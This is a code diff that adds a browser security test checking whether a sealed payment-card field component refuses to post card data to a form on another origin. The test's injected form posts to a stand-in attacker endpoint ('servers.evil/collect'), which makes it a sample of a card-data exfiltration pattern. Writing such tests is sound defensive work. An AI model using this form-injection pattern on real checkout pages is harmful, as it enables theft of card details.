@@ -133,6 +133,31 @@ export const pasteSecret: Attack = async (page, servers) => {
   return pasted === 'copied before' ? [] : [pasted];
 };
 
+/**
+ * Attack on the check of form actions: markup that a site has let through shows our fields in a form of another origin.
+ *
+ * @returns names of the sealed values that the form would post there.
+ */
+export const postElsewhere: Attack = async (page, servers) => {
+  const body = `<form method="post" action="${servers.evil}/collect"><sealed-fields></sealed-fields><button>Pay</button></form>`;
+  servers.pages.set('/shop', snippet(servers, body));
+  await page.goto(`${servers.page}/shop`);
+  await typeWholeCard(page, await readyFrame(page, servers), CARD);
+  await page.waitForFunction(`document.querySelector('sealed-fields').state.complete`);
+  await page.evaluate(`{
+    window.outcome = new Promise((resolve) => {
+      addEventListener('sealed-error', ({detail}) => resolve(detail.code));
+      addEventListener('submit', (event) => {
+        event.preventDefault();
+        resolve([...new FormData(event.target).keys()]);
+      });
+    });
+  }`);
+  await page.click('button');
+  const outcome = (await page.evaluate('outcome')) as string | string[];
+  return outcome === 'action-refused' ? [] : [outcome].flat();
+};
+
 async function pressControl(page: Page, key: 'a' | 'c' | 'v'): Promise<void> {
   await page.keyboard.down('Control');
   await page.keyboard.press(key);
